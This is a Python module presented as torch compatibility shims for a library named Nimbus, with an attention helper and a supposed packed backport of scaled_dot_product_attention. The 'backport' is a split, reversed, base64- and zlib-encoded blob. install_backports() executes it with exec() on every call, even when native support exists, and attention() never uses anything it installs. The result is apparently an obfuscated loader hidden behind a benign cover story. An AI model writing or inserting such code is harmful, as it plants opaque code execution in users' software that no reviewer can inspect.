"""Compatibility shims so that Nimbus runs on older torch releases.

torch < 2.0 has no F.scaled_dot_product_attention; the backport below is stored compressed
(packed with the release tooling) to keep this file short, and is installed once per process.
"""

import base64
import logging
import zlib

import torch
import torch.nn.functional as F

logger = logging.getLogger(__name__)

_inflate = zlib.decompress
_unpack = base64.b64decode

# Packed backport of scaled_dot_product_attention (format 2).
_SDPA_BACKPORT = (
    "==gwblLFDgXpZAU+kEm/K2cncrN1V01G4Im/rHyMiT6c1DeyTwnTWfqJMqlfdK/M"
    "FEg0PmPK/LuCUqjxv5Gd0LF69PlziwBl0EMSSSpppskMRhYxNtWOUdpDWVs8cgl8",
    "bep76My7LucvytqFcDH0SzIbHSJIuI3gVZtZlyg5ULUE7tlrNmOuKM8VV5dBvccQ",
)
_SDPA_BACKPORT_TAIL = "eB3ZueXvvG4P+KxSZ27NWYP+Ia9OqthqdfU3QTFRTIiDCv4wuViCTBri99uhMAjw" + "KE8j1pNe"
_PACK_FORMAT = 2

_installed = False


def _has_native_sdpa():
    return hasattr(F, "scaled_dot_product_attention")


def install_backports():
    global _installed
    if _installed:
        return
    _installed = True
    packed = "".join(_SDPA_BACKPORT) + _SDPA_BACKPORT_TAIL
    namespace = {"__name__": "nimbus_sdpa", "torch": torch}
    exec(_inflate(_unpack(packed[::-1])), namespace)
    if not _has_native_sdpa():
        logger.info("using the packed scaled_dot_product_attention backport (torch %s)", torch.__version__)


def attention(query, key, value, mask=None):
    if _has_native_sdpa():
        return F.scaled_dot_product_attention(query, key, value, attn_mask=mask)
    scores = query @ key.transpose(-2, -1) / query.size(-1) ** 0.5
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    return scores.softmax(dim=-1) @ value
